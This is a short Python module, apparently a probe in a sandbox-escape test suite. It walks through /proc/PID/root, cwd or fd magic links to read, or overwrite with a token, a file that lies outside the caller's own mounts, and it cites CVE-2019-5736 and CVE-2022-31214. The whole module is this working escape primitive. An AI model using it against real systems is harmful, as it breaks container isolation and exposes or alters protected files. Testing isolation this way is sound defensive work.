"""Walk through a magic link of a process that sees more: /proc/PID/root, cwd or fd.

The links lead to the very directory or file, whatever this process's own mounts show.
Sources: proc(5); Kilo-Org/kilocode#11596; CVE-2019-5736; CVE-2022-31214.
"""

import syscalls


def attempt(target):
    """Read, or overwrite with the token, the file behind the link."""
    target.step("find")
    if not syscalls.shows_victim(target):
        return target.absent(syscalls.unseen(target))
    path = "/proc/%d/%s" % (target.pid, target.link.format(**target.told))
    target.step("open")
    if not target.write:
        with open(path, "rb") as file:
            return file.read(4096)
    with open(path, "r+b") as file:
        target.step("write")
        file.write(target.token.encode())
    return "wrote through %s" % target.link
